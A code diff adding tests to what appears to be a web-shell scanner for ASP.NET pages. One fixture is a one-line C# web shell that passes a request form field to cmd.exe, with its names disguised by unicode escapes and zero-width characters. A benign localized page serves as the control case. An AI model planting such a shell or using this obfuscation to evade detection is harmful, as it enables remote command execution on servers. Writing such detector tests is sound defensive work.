@@ -254,3 +254,39 @@ End Class"""
 
 def test_code_behind_search_with_a_configured_connection_stays_below_medium() -> None:
     assert medium_or_above(run("search.aspx.vb", BENIGN_CODE_BEHIND)) == []
+
+
+# ----------------------------------------------------------------------------- formatting characters in names
+
+# Every letter escaped, with escaped formatting characters (U+200E, U+200D, U+FEFF) between
+# them, and a literal zero-width non-joiner inside `Process`: the compiler drops both from names.
+FORMATTED = (
+    '<%@ Page Language="C#" %>\n'
+    '<% System.Diagnostics.Pro\u200ccess.Start("cmd.exe", "/c " + '
+    '\\u0052\\u200e\\u0065\\U0000200D\\u0071\\ufeff\\u0075\\u0065\\u0073\\u0074.Form["c"]); %>'
+)
+
+
+def test_formatting_characters_in_names_are_dropped_as_the_compiler_drops_them() -> None:
+    report = run("fmt.aspx", FORMATTED)
+    assert "form field 'c'" in chain_of(report, "EXH-WS-CODE-PROCESS")
+    assert "Request (unicode escapes)" in report.folded
+    assert "Process (formatting characters)" in report.folded
+    hidden = [c.chain for c in report.capabilities if c.rule_id == "EXH-WS-CODE-HIDDEN-NAME"]
+    assert "spells 'Request' with unicode escapes" in hidden
+    assert "spells 'Process' with invisible formatting characters between its letters" in hidden
+
+
+# Right-to-left marks and joiners are ordinary text in strings of localized pages.
+BENIGN_FORMATTED = (
+    '<%@ Page Language="C#" %>\n'
+    '<% string greeting = "\\u200f\u05e9\u05dc\u05d5\u05dd \u05e2\u05d5\u05dc\u05dd"; '
+    'string family = "\U0001f468\u200d\U0001f469"; '
+    "Response.Write(Server.HtmlEncode(greeting + family)); %>"
+)
+
+
+def test_marks_and_joiners_in_strings_stay_quiet() -> None:
+    report = run("hello.aspx", BENIGN_FORMATTED)
+    assert medium_or_above(report) == []
+    assert all(c.rule_id != "EXH-WS-CODE-HIDDEN-NAME" for c in report.capabilities)
